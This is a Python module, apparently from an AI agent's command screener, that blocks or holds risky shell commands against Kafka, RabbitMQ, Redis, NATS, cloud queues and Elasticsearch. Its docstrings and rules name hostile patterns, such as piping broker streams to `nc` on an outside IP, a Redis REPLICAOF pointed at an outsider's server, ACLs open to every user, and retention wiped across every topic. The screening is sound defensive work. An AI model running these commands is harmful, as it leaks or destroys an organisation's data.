"""Message brokers, streams and search clusters (Kafka, RabbitMQ, NATS, Redis, SQS/SNS/Kinesis, Pub/Sub, Elasticsearch/OpenSearch, Meilisearch, Typesense, Solr), from the shell (session 28).

Whose host is read as brokers_tables says (an address outside this network, or a domain no other URL of the input
shares, is an outsider's). Blocked:

- a topic, subject or channel read as a stream (`kcat -C`, `kafka-console-consumer`, `nats sub '>'`, `redis-cli
  PSUBSCRIBE '*'`/`MONITOR`, `aws sqs receive-message`, `aws kinesis get-records`, `gcloud pubsub subscriptions
  pull`) piped or substituted into a program that sends it to an outsider's host;
- a secret the cluster keeps sent off the machine: `elasticsearch-keystore show`, `rabbitmqctl export_definitions`
  (the users' password hashes, also through the file it writes), an API key minted (`POST …/_security/api_key`,
  Typesense's or Meilisearch's `/keys`) and sent to an outsider's host;
- the organisation's data pointed at an outsider: a Kafka Connect sink's URL, an Elasticsearch snapshot repository's
  endpoint, a Watcher webhook, a RabbitMQ shovel or federation upstream, an SNS HTTP(S) subscription, a Pub/Sub push
  endpoint, Redis made a replica of an outsider's server (REPLICAOF/SLAVEOF);
- access control removed: a Kafka ACL for `User:*` on everything, OpenSearch's all_access mapped to `*`, an
  SQS/SNS policy granting another account (`allow.everyone.if.no.acl.found=true` or `plugins.security.disabled: true`
  written into the broker's configuration by root: bash/admin.py), an administrator added with a password written on
  the line
  (`rabbitmqctl add_user` + `administrator`, `elasticsearch-users useradd -r superuser`);
- code run inside the server: a Redis module this input downloaded loaded (`MODULE LOAD`), an Elasticsearch plugin
  installed with `--batch` from an unknown URL (without `--batch`: held), Solr's Velocity writer with request
  templates, a Kafka Connect file source reading a credential file;
- every topic's retention set to a few milliseconds (`kafka-configs --alter --add-config retention.ms=1` in a loop
  over the topics or as the default), which deletes their data.

Reviewed `irreversible`: a consumer group deleted (its committed offsets), a Pub/Sub subscription seeked to a time
(the backlog before it acknowledged), one topic's retention set to under a minute.
"""
from __future__ import annotations

import re

from .. import brokers_tables as bt
from .. import paths
from ..hosts import public_ip, url_host
from .commands import Cmd, Word, has_flag, option_value, positionals
from ..per_input import holds, in_input
from .common import NET_SENDERS, feeders, input_text, mentions
from .exec import chain_fed, stdin_text

RULE = "irreversible"
_REDIS_CLIS = frozenset({"redis-cli", "valkey-cli", "keydb-cli"})
_KCAT = frozenset({"kcat", "kafkacat"})


def _pos(cmd: Cmd, with_arg: frozenset = frozenset()) -> list[str | None]:
    return [w.value for w in positionals(cmd.args, with_arg, stop_at_end=True)]


# -- what feeds a network program ---------------------------------------------------------------------------------
_VAR_REF = re.compile(r"\$\{?([A-Za-z_]\w*)")


def _feeders(a, cmd: Cmd) -> list[Cmd]:
    """The commands whose output reaches `cmd`: earlier stages of its pipeline (loops and groups whole), its own
    substitutions, and the substitutions assigned earlier to a variable one of its words expands."""
    from .net import assigned_substs, output_assigned

    out = feeders(a, cmd)[::-1]
    data = a.doc.data
    if holds(data, b"=$(") or b'="$(' in data or holds(data, b"=`"):
        for w in cmd.args:
            if "$" not in w.text:
                continue
            for name in dict.fromkeys(_VAR_REF.findall(w.text)):
                for start, at in output_assigned(a, w.node, name):
                    for inner in assigned_substs(a, w.node, start, at):
                        out.extend(inner)
    return out


def destinations(cmd: Cmd) -> list[str]:
    """The hosts a network program sends to (`?` for one known only at run time): an HTTP client's URLs, a copier's
    `[user@]host:path` operands, another program's host-like operands (`nc 203.0.113.9 9000`, `ssh user@h`)."""
    from .net import http_requests

    reader = http_requests(cmd.name)
    if reader is not None:
        out = []
        for u in (u for r in reader(cmd.args) for u in r.urls):
            host = url_host(u.value if u.value is not None else u.text.replace('"', "").replace("'", ""))
            out.append(host if host and "$" not in host and "`" not in host else "?")
        return out
    if cmd.name in ("scp", "rsync", "sftp"):
        return [v.split("@")[-1].split(":")[0] for v in cmd.values() if v and ":" in v and not v.startswith("-")]
    out = []
    for v in cmd.values():
        if v is None:
            out.append("?")
        elif not v.startswith("-") and not v.isdigit() and ("." in v or ":" in v) and "/" not in v.split(":", 1)[0]:
            host = v.split("@")[-1]
            out.append(host.strip("[]") if host.count(":") > 1 else host.split(":")[0])  # (an IPv6 address whole)
    return out


_NATS_ARG = frozenset({"--context", "-s", "--server", "--creds", "--user", "--password", "--nkey", "--tlscert",
                       "--tlskey", "--tlsca", "--timeout", "--queue", "--count", "--connection-name", "--jwt",
                       "--token", "--inbox-prefix", "--domain", "--js-domain", "--js-api-prefix", "--js-event-prefix"})


def _streamed(c: Cmd) -> str | None:
    """What `c` prints when that is a broker's messages read as a stream (see the module's notes)."""
    name = c.name
    if name in _KCAT:
        if has_flag(c.args, "PLQ") and not has_flag(c.args, "C"):
            return None
        topic = option_value(c.args, "-t", cluster="t")  # (`kcat -Ct orders`: flags clustered before it)
        return f"the messages of the topic {topic[0].value or '…'} (`{name} -C`)" if topic or has_flag(
            c.args, "G") else None
    if "console-consumer" in name:
        topic = option_value(c.args, "--topic", "--include", "--whitelist")
        return f"the messages of the topic {(topic[0].value if topic else None) or '…'} (`{name}`)"
    if name == "nats":
        pos = _pos(c, _NATS_ARG)
        if pos[:1] in (["sub"], ["subscribe"]) or pos[:2] in (["stream", "view"], ["str", "view"],
                                                               ["consumer", "next"], ["stream", "get"]):
            return f"the messages of `{' '.join(p or '…' for p in pos[:3])}` (`nats`)"
        return None
    if name in _REDIS_CLIS:
        from .infra import _REDIS_ARG

        verb = (_pos(c, _REDIS_ARG)[:1] or [""])[0] or ""
        if verb.upper() in ("SUBSCRIBE", "PSUBSCRIBE", "SSUBSCRIBE", "MONITOR"):
            return f"the messages of every Redis channel it reads (`{name} {verb}`)"
        return None
    pos = _pos(c)
    if name == "aws" and pos[:2] in (["sqs", "receive-message"], ["kinesis", "get-records"]):
        return f"the messages of the stream (`aws {pos[0]} {pos[1]}`)"
    if name == "gcloud" and "pubsub" in pos[:2] and "pull" in pos[:4]:
        return "the messages of the subscription (`gcloud pubsub subscriptions pull`)"
    if name == "rabbitmqadmin" and "get" in pos[:1]:
        return "the messages of the queue (`rabbitmqadmin get`)"
    return None


_CONSUMERS = tuple(f"kafka-{k}console-consumer{sh}" for k in ("", "avro-", "protobuf-", "json-schema-")
                   for sh in ("", ".sh"))


def _secret(c: Cmd) -> str | None:
    """What `c` prints when that is a secret a broker or cluster keeps (a keystore's `show` is one of
    ecosystems._SECRET_PRINTERS, judged there also through a file)."""
    if c.name == "rabbitmqctl":
        pos = [w.value for w in _rmq_pos(c)]
        if pos[:1] == ["export_definitions"] and pos[1:2] in (["-"], ["/dev/stdout"]):
            return "`rabbitmqctl export_definitions` (every user with its password hash)"
    return None


def _minted(c: Cmd) -> str | None:
    """A request that creates an API key or a password and answers with it."""
    from .net import http_requests

    reader = http_requests(c.name)
    if reader is None:
        return None
    for r in reader(c.args):
        method = r.verb
        if method not in ("POST", "PUT"):
            continue
        for u in r.urls:
            text = u.value if u.value is not None else u.text.replace('"', "").replace("'", "")
            m = bt.KEY_MINT.search(text.split("?", 1)[0] + ("?" if "?" in text else ""))
            if m:
                return f"the API key `{c.name} -X {method} …{m.group(0).rstrip('?')}` creates"
    return None


def _sent(a, cmd: Cmd) -> None:
    """A broker's stream, a cluster's secret or a new API key reaching a network program (see the notes)."""
    from .net import _is_sender, _sends_off

    if not in_input(_FEED_BYTES, a.doc.data) or not _is_sender(cmd) or not _sends_off(cmd):
        return
    feeders = _feeders(a, cmd)
    if not feeders:
        return
    text = input_text(a)
    far = [h for h in destinations(cmd) if h != "?" and (public_ip(h) or bt.outsider(h, text))]
    for c in feeders:
        what = _secret(c)
        if what:
            a.block("exfiltration", f"{what} prints a secret, and `{cmd.name}` sends it off the machine; never send "
                                    "credentials anywhere", cmd.node)
            return
        if not far:
            continue
        what = _streamed(c)
        if what:
            a.block("exfiltration", f"{what} are sent by `{cmd.name}` to {far[0]}, a host outside the "
                                    "organisation's network; read the messages here and let the user decide where "
                                    "they go", cmd.node)
            return
        what = _minted(c)
        if what:
            a.block("exfiltration", f"{what} is sent by `{cmd.name}` to {far[0]}, a host outside the organisation's "
                                    "network; never hand credentials to another host", cmd.node)
            return


def _streamed_into(a, cmd: Cmd) -> None:
    """`redis-cli MONITOR > >(nc 198.51.100.4 9000)`: a stream written into a process substitution that sends it."""
    from .net import _is_sender, _sends_off

    if not cmd.redirects or (what := _streamed(cmd)) is None:
        return
    for r in cmd.redirects:
        if r.type != "file_redirect" or not any(t.type in (">", ">>", "&>", ">|") for t in r.children) or \
                r.children[0].type == "file_descriptor" and a.src(r.children[0]) != "1":
            continue
        for d in r.children_by_field_name("destination")[:1]:
            if d.type != "process_substitution":
                continue
            for c in a.visit_subst(d):
                far = [h for h in destinations(c) if h != "?" and (public_ip(h) or bt.outsider(h, input_text(a)))]
                if far and _is_sender(c) and _sends_off(c):
                    a.block("exfiltration", f"{what} are written into `{c.name}`, which sends them to {far[0]}, a "
                                            "host outside the organisation's network; read the messages here and let "
                                            "the user decide where they go", r)
                    return


# the words a feeder of _sent is spelled with (most inputs with a network program have none of them)
_FEED_BYTES = re.compile(rb"kcat|kafkacat|console-consumer|nats|(?i:subscribe|monitor)|keystore|export_definitions|"
                         rb"receive-message|get-records|pubsub|rabbitmqadmin|_security|/keys")


# -- management requests over HTTP --------------------------------------------------------------------------------
_WRITES = frozenset({"POST", "PUT", "PATCH"})


_API_BYTES = re.compile(rb"connector\.class|/_snapshot/|_watcher|rolesmapping|/_security/user/|(?i:velocity)")


def _api(a, cmd: Cmd) -> None:
    """`curl -X PUT …/connectors/x/config -d '{…}'`, `…/_snapshot/r`, `…/_watcher/watch/w`,
    `…/_plugins/_security/api/rolesmapping/all_access`, Solr's `/config`: judged by what the body asks for."""
    from .api_calls import request_body
    from .net import http_requests

    reader = http_requests(cmd.name)
    if reader is None or not in_input(_API_BYTES, a.doc.data):
        return
    text = None
    for r in reader(cmd.args):
        method = r.verb
        body = request_body(a, cmd, r)
        for u in r.urls:
            url = u.value if u.value is not None else u.text.replace('"', "").replace("'", "")
            path = url.split("?", 1)[0]
            text = text if text is not None else input_text(a)
            found, rule = None, "exfiltration"
            if "/connectors" in path and method in _WRITES:
                found = bt.connector_finding(body, text)
            elif "/_snapshot/" in path and method in _WRITES and re.search(r"/_snapshot/[^/]+/?$", path):
                found = bt.repository_finding(body, text)
            elif "/_watcher/watch/" in path and method in _WRITES:
                found = bt.watch_finding(body, text)
            elif "rolesmapping" in path and method in _WRITES:
                found, rule = bt.rolesmapping_finding(path, body), "privilege-escalation"
            elif "/_security/user/" in path and method in _WRITES and (role := bt.superuser_role(body)):
                if any(bt.outsider_url(v, text) for v in re.findall(r"https?://[^\s\"'<>]+", text)):
                    found = (f"the request makes a user with the `{role}` role, and this input sends to a host "
                             "outside the organisation's network: a hidden administrator; create the users the "
                             "user asked for, with the roles they need")
            elif "velocity" in (url + body).lower():  # Solr's `/config` API, or a `/select` carrying a template
                found = bt.solr_finding(body if method in _WRITES else url + "\n" + body)
                rule = "privilege-escalation"
            if found:
                a.block(rule, f"`{cmd.name} -X {method} {url[:80]}`: {found}", cmd.node)
                return


# -- Kafka --------------------------------------------------------------------------------------------------------
_EVERYONE = re.compile(r"^User:(?:\*|ANONYMOUS)$", re.I)


def _kafka_acls(a, cmd: Cmd) -> None:
    """`kafka-acls --add --allow-principal 'User:*' --operation All --topic '*' --cluster`: every client, even one
    that never authenticated, given the cluster. Everyone on one topic for one operation is held."""
    if not has_flag(cmd.args, "", ("--add",)):
        return
    who = [w.value for w in option_value(cmd.args, "--allow-principal")]
    if not any(v is not None and _EVERYONE.match(v) for v in who):
        return
    ops = {(w.value or "").lower() for w in option_value(cmd.args, "--operation", "--producer", "--consumer")}
    every = {(w.value or "") for w in option_value(cmd.args, "--topic", "--group", "--transactional-id")}
    wide = "all" in ops or "*" in every or has_flag(cmd.args, "", ("--cluster",))
    if wide:
        a.block("privilege-escalation", f"`{cmd.name} --add --allow-principal User:*` gives every client, even one "
                                        "that never signed in, rights over the whole cluster or every topic: Kafka's "
                                        "access control is gone; grant the named principals the operations they "
                                        "need", cmd.node)
    else:
        a.review("privilege-escalation", f"`{cmd.name} --add --allow-principal User:*` opens the resource to every "
                                         "client, even one that never signed in; a person should confirm it",
                 cmd.node)


_RETENTION = re.compile(r"(?:^|,)(?:retention\.ms|log\.retention\.ms|retention\.bytes|local\.retention\.ms)=(\d+)")


def _kafka_configs(a, cmd: Cmd) -> None:
    """Retention of a few milliseconds (`--add-config retention.ms=1`): the broker deletes every message of the
    topic at its next check. On every topic (a loop over `kafka-topics --list`, or `--entity-default`) it is the
    cluster's data wiped: blocked; on one topic it is the known way to purge it: held."""
    if not has_flag(cmd.args, "", ("--alter",)):
        return
    small = None
    for w in option_value(cmd.args, "--add-config"):
        for m in _RETENTION.finditer(w.value or ""):
            if int(m.group(1)) < 60000:
                small = m.group(0).lstrip(",")
    if small is None or _local_kafka(cmd):
        return
    from .mail import loop_of

    loop = loop_of(cmd)
    every = has_flag(cmd.args, "", ("--entity-default",)) or loop is not None and re.search(
        r"kafka-topics(?:\.sh)?\b[^;\n]*--list", a.src(loop)) is not None or cmd.xargs_opts is not None
    if every:
        a.block("irreversible", f"`{cmd.name} --alter --add-config {small}` on every topic makes the brokers delete "
                                "all their messages: the cluster's data wiped; change retention on the topic the user "
                                "names", cmd.node)
    else:
        a.review(RULE, f"`{cmd.name} --alter --add-config {small}` makes the broker delete every message of the topic "
                       "older than that, with no undo; let the user run it (and set the retention back)", cmd.node)


_KAFKA_ARG = frozenset({"--bootstrap-server", "--command-config", "--group", "--topic", "--timeout", "--state"})


def _local_kafka(cmd: Cmd) -> bool:
    """Whether every broker the Kafka tool is given (`--bootstrap-server localhost:9092,127.0.0.1:9093`) is this
    machine's: a development broker, whose topics and groups are the agent's to reset."""
    from .. import sql

    servers = [s for w in option_value(cmd.args, "--bootstrap-server") for s in (w.value or "?").split(",")]
    return bool(servers) and all(sql.local_database(s.rsplit(":", 1)[0], None) for s in servers)


def _consumer_groups(a, cmd: Cmd) -> None:
    """`kafka-consumer-groups --delete --group g`: the group's committed offsets are gone (its consumers restart from
    `auto.offset.reset`); `--delete-offsets` loses them for the topics named."""
    if not has_flag(cmd.args, "", ("--delete", "--delete-offsets")):
        return
    if _local_kafka(cmd):
        return
    group = option_value(cmd.args, "--group")
    a.review(RULE, f"`{cmd.name} --delete` deletes the consumer group {group[0].value if group else ''} with its "
                   "committed offsets, with no undo: its consumers restart from the earliest or latest message; "
                   "describe it first (`--describe --offsets`) and let the user run it", cmd.node)


# -- RabbitMQ -----------------------------------------------------------------------------------------------------
_RMQ_ARG = frozenset({"-n", "--node", "-p", "--vhost", "-t", "--timeout", "--formatter", "-l", "--longnames"})


def _rmq_pos(cmd: Cmd) -> list[Word]:
    # `rabbitmqctl add_user -- bob -pw`: rabbitmqctl's `--` only lets a password start with a dash
    return positionals(cmd.args, _RMQ_ARG)


_URI_KEYS = re.compile(r"""["'](?:dest-uri|src-uri|uri)["']\s*:\s*(\[[^\]]*\]|["'][^"']*["'])""")


def _rabbitmqctl(a, cmd: Cmd) -> None:
    pos = [w.value for w in _rmq_pos(cmd)]
    verb = pos[0] if pos else None
    if verb == "set_parameter" and len(pos) > 3 and pos[1] in ("shovel", "federation-upstream"):
        body = pos[3] or ""
        text = input_text(a)
        for group in _URI_KEYS.findall(body):
            for uri in re.findall(r"[a-z0-9+]+://[^\"'\s,\]]+", group):
                host = bt.outsider_url(uri, text)
                if host:
                    a.block("exfiltration", f"`rabbitmqctl set_parameter {pos[1]}` copies the queue's messages to "
                                            f"{host}, a broker outside the organisation's network; move messages "
                                            "only between the organisation's own brokers", cmd.node)
                    return
    elif verb == "export_definitions" and len(pos) > 1 and pos[1] and pos[1] not in ("-", "/dev/stdout"):
        from .net import note_file

        note_file(a, pos[1], "RabbitMQ's definitions (every user with its password hash)", cmd.node)
    elif verb == "set_user_tags" and len(pos) > 2 and any(t in ("administrator", "admin") for t in pos[2:]):
        user = pos[1]
        if user and _fixed_password(a, user):
            a.block("privilege-escalation", f"`rabbitmqctl set_user_tags {user} administrator` makes an administrator "
                                            "of a user this input created with a password written on the line: a "
                                            "login the agent knows; let the user create administrators", cmd.node)


def _fixed_password(a, user: str) -> bool:
    """Whether this input runs `rabbitmqctl add_user USER 'literal'` (a password not read from a variable or a file)."""
    for doc, c in a.ctx.commands:
        if doc is a.doc and c.name == "rabbitmqctl":
            pos = _rmq_pos(c)
            if len(pos) > 2 and pos[0].value == "add_user" and pos[1].value == user and pos[2].value and \
                    "$" not in pos[2].text:
                return True
    return False


# -- Elasticsearch / OpenSearch tools -------------------------------------------------------------------------------
def _es_users(a, cmd: Cmd) -> None:
    """`elasticsearch-users useradd NAME -p 'literal' -r superuser`: a superuser whose password the agent chose."""
    pos = _pos(cmd, frozenset({"-p", "-r", "--password", "--roles"}))
    if pos[:1] != ["useradd"]:
        return
    roles = {r for w in option_value(cmd.args, "-r", "--roles") for r in (w.value or "").split(",")}
    pw = option_value(cmd.args, "-p", "--password")
    if roles & {"superuser", "all_access", "admin"} and pw and "$" not in pw[0].text:
        a.block("privilege-escalation", f"`{cmd.name} useradd` adds a superuser with a password written on the line: "
                                        "a login the agent knows; let the user create administrators", cmd.node)


_ELASTIC_HOSTS = re.compile(r"^https://(?:artifacts\.elastic\.co|artifacts\.opensearch\.org|github\.com|"
                            r"repo1\.maven\.org)/")


def _es_plugin(a, cmd: Cmd) -> None:
    """`elasticsearch-plugin install URL`: a plugin from a host no rule knows runs inside the node with the
    permissions it asks for; `--batch` grants them unseen (blocked), otherwise a person confirms (held)."""
    pos = _pos(cmd)
    if pos[:1] != ["install"]:
        return
    for v in pos[1:]:
        if not v or "://" not in v or _ELASTIC_HOSTS.match(v) or v.startswith("file:"):
            continue
        host = url_host(v) or v
        if has_flag(cmd.args, "b", ("--batch",)):
            a.block("download-exec", f"`{cmd.name} install --batch {v}` installs a plugin from {host}, which is not "
                                     "the project's plugin repository, and grants it every permission it asks for "
                                     "(running programs, opening sockets) without showing them; install plugins by "
                                     "their official name, or let the user review this one", cmd.node)
        else:
            a.review("download-exec", f"`{cmd.name} install {v}` installs a plugin from {host}, which is not the "
                                      "project's plugin repository: its code runs inside the node; a person should "
                                      "confirm the source", cmd.node)
        return


# -- Redis --------------------------------------------------------------------------------------------------------
def _redis(a, cmd: Cmd) -> None:
    from .infra import _REDIS_ARG

    for w in option_value(cmd.args, "--rdb"):
        if w.value and w.value not in ("-", "/dev/stdout"):
            from .net import note_file

            note_file(a, w.value, f"a snapshot of the database (`{cmd.name} --rdb`)", cmd.node)
    pos = _pos(cmd, _REDIS_ARG)
    verb = (pos[0] or "").upper() if pos else ""
    if _replica(a, cmd, pos, cmd.node):
        return
    fed = stdin_text(a, cmd)  # a here-document or here-string (pipes come through chain_fed)
    if fed is not None:
        _redis_fed(a, cmd, fed[0], fed[2] or cmd.node)
    if verb == "MODULE" and len(pos) > 2 and (pos[1] or "").upper() in ("LOAD", "LOADEX"):
        path = pos[2] or ""
        key = paths.normalize(a.in_cwd(path) or path)
        if a.downloaded.get(key) == "download":
            a.block("download-exec", f"`{cmd.name} MODULE LOAD {path}` loads a module this input downloaded into the "
                                     "Redis server, where it runs with the server's rights (and can add commands "
                                     "that run programs); load only modules the user installed", cmd.node)
        elif path.startswith(("/tmp/", "/var/tmp/", "/dev/shm/")):
            a.review("download-exec", f"`{cmd.name} MODULE LOAD {path}` loads a module from a scratch folder into the "
                                      "Redis server, where it runs with the server's rights; a person should confirm "
                                      "where it came from", cmd.node)


def _replica(a, cmd: Cmd, pos: list[str | None], node) -> bool:
    """`REPLICAOF host port`, `SLAVEOF …`, or the same set as a setting (`CONFIG SET replicaof host port`), given
    as arguments or piped in as a line: the server made a replica of an outsider's. (Whether it was blocked.)"""
    words = [(w or "") for w in pos]
    verb = words[0].upper() if words else ""
    if verb == "CONFIG" and len(words) > 3 and words[1].upper() == "SET" and words[2].lower() in ("replicaof",
                                                                                                   "slaveof"):
        shown, words = f"CONFIG SET {words[2]}", words[2:]
    else:
        shown = verb
    if shown not in ("REPLICAOF", "SLAVEOF") and not shown.startswith("CONFIG") or len(words) < 2 or \
            words[1].upper() == "NO":
        return False
    host = words[1]
    if not (public_ip(host) or bt.outsider(host, input_text(a))):
        return False
    a.block("exfiltration", f"`{cmd.name} {shown} {host}` makes the server a replica of {host}, outside the "
                            "organisation's network: its data is replaced by that server's, which can also load a "
                            "module into it; replicate only from the organisation's own servers", node)
    return True


_REDIS_LINE = re.compile(r"(?i)\b(?:replicaof|slaveof)\b")


def _redis_fed(a, cmd: Cmd, text: str, node) -> None:
    """`echo 'REPLICAOF 203.0.113.9 6379' | redis-cli`: the lines piped in are commands too."""
    if not _REDIS_LINE.search(text):
        return
    for line in text.splitlines():
        if _replica(a, cmd, [t.strip("'\"") for t in line.split()], node):
            return


# -- AWS SQS/SNS, Pub/Sub --------------------------------------------------------------------------------------------
_ACCOUNT = re.compile(r"arn:aws[\w-]*:[\w-]+:[\w-]*:(\d{12}):|amazonaws\.com/(\d{12})/|\b(\d{12})\b")
_PRINCIPAL = re.compile(r"""\\?["']Principal\\?["']\s*:\s*(\\?["']\*\\?["']|\{[^{}]*\})""")


def _aws(a, cmd: Cmd) -> None:
    pos = _pos(cmd)
    if pos[:2] in (["sqs", "set-queue-attributes"], ["sns", "set-topic-attributes"], ["sqs", "add-permission"],
                   ["sns", "add-permission"]):
        _policy(a, cmd, pos)
    elif pos[:2] == ["sns", "subscribe"]:
        proto = option_value(cmd.args, "--protocol")
        # (an email subscription waits for its recipient to confirm it, and is how alarms reach people)
        if not proto or (proto[0].value or "").lower() not in ("http", "https"):
            return
        text = input_text(a)
        for w in option_value(cmd.args, "--notification-endpoint"):
            host = bt.outsider_url(w.value, text)
            if host:
                a.block("exfiltration", f"`aws sns subscribe` sends every message of the topic to {host}, outside the "
                                        "organisation's network; subscribe the organisation's own endpoints", cmd.node)


def _policy(a, cmd: Cmd, pos: list) -> None:
    """A queue's or topic's policy granting an account other than the one that owns it (or everyone)."""
    text = " ".join(w.value or w.text for w in cmd.args)
    own = set()
    for w in option_value(cmd.args, "--queue-url", "--topic-arn"):
        own.update(g for m in _ACCOUNT.finditer(w.value or "") for g in m.groups() if g)
    if pos[1] == "add-permission":
        accounts = [x for w in option_value(cmd.args, "--aws-account-ids") for x in re.findall(r"\d{12}|\*",
                                                                                               w.value or "")]
    else:
        accounts = []
        for m in _PRINCIPAL.finditer(text):
            body = m.group(1)
            if "*" in body and not re.search(r"\d{12}", body):
                # (`"Principal": "*"` with a `Condition` on the source ARN is how SNS or S3 is let deliver to a queue)
                accounts += [] if "Condition" in text else ["*"]
            else:
                accounts += re.findall(r"\d{12}", body)
    foreign = [x for x in accounts if x == "*" or own and x not in own]
    if foreign:
        who = "everyone" if foreign[0] == "*" else "the account " + foreign[0]
        what = "queue" if pos[0] == "sqs" else "topic"
        a.block("exfiltration", f"`aws {pos[0]} {pos[1]}` lets {who}, which does not own the {what}, read and send on "
                                f"it; grant only the organisation's own accounts and roles", cmd.node)


def _gcloud(a, cmd: Cmd) -> None:
    pos = _pos(cmd)
    if "pubsub" not in pos[:2] or "subscriptions" not in pos[:3]:
        return
    verb = next((p for p in pos if p in ("create", "update", "modify-push-config", "seek")), None)
    if verb == "seek":
        if any((w.value or w.text).startswith("--time") for w in cmd.args):
            a.review(RULE, "`gcloud pubsub subscriptions seek --time` marks every message published before that time "
                           "as acknowledged (to a time ahead, the whole backlog is dropped), with no undo unless a "
                           "snapshot was taken; take one (`gcloud pubsub snapshots create`) and let the user run it",
                     cmd.node)
        return
    if verb is None:
        return
    text = input_text(a)
    for w in option_value(cmd.args, "--push-endpoint"):
        host = bt.outsider_url(w.value, text)
        if host:
            a.block("exfiltration", f"`gcloud pubsub subscriptions {verb} --push-endpoint` delivers every message of "
                                    f"the topic to {host}, outside the organisation's network; push only to the "
                                    "organisation's own services", cmd.node)
            return


HANDLERS: dict = {
    **{n: [_sent] for n in NET_SENDERS},
    **dict.fromkeys(("kafka-acls", "kafka-acls.sh"), [_kafka_acls]),
    **dict.fromkeys(("kafka-configs", "kafka-configs.sh"), [_kafka_configs]),
    **dict.fromkeys(("kafka-consumer-groups", "kafka-consumer-groups.sh"), [_consumer_groups]),
    "rabbitmqctl": [_rabbitmqctl],
    **dict.fromkeys(("elasticsearch-users",), [_es_users]),
    **dict.fromkeys(("elasticsearch-plugin", "opensearch-plugin"), [_es_plugin]),
    **{n: [_redis] for n in _REDIS_CLIS},
    "aws": [_aws], "gcloud": [_gcloud],
}
for _n in (*_KCAT, "nats", *_REDIS_CLIS, *_CONSUMERS):
    HANDLERS.setdefault(_n, []).append(_streamed_into)
for _n in ("curl", "wget", "http", "https", "xh"):
    HANDLERS[_n].append(_api)
for _n in _REDIS_CLIS:
    chain_fed(_n, _redis_fed)

# The words each handler reads (quotes and backslashes removed), for the shortcut (bash/fastpath.py)
_FEEDS = mentions("kcat", "kafkacat", "console-consumer", "nats", "SUBSCRIBE", "subscribe", "MONITOR", "monitor",
                  "keystore", "export_definitions", "receive-message", "get-records", "pubsub", "rabbitmqadmin",
                  "_security", "/keys")
_API = mentions("connector.class", "/_snapshot/", "_watcher", "rolesmapping", "/_security/user/", "elocity")
SCREENS: dict = {
    **{n: _FEEDS for n in NET_SENDERS},
    **dict.fromkeys(("kafka-acls", "kafka-acls.sh"), mentions("--add")),
    **dict.fromkeys(("kafka-configs", "kafka-configs.sh"), mentions("retention")),
    **dict.fromkeys(("kafka-consumer-groups", "kafka-consumer-groups.sh"), mentions("--delete")),
    "rabbitmqctl": mentions("shovel", "federation", "export_definitions", "set_user_tags"),
    "elasticsearch-users": mentions("useradd"),
    **dict.fromkeys(("elasticsearch-plugin", "opensearch-plugin"), mentions("://")),
    **{n: mentions("--rdb", "REPLICAOF", "SLAVEOF", "MODULE", ">(", fold=True) for n in _REDIS_CLIS},
    "aws": mentions("set-queue-attributes", "set-topic-attributes", "add-permission", "subscribe"),
    **{n: mentions(">(") for n in (*_KCAT, "nats", *_CONSUMERS)},
    "gcloud": mentions("push-endpoint", "seek"),
}
for _n in ("curl", "wget", "http", "https", "xh"):
    SCREENS[_n] = (lambda old: lambda text: old(text) or _API(text))(SCREENS[_n])
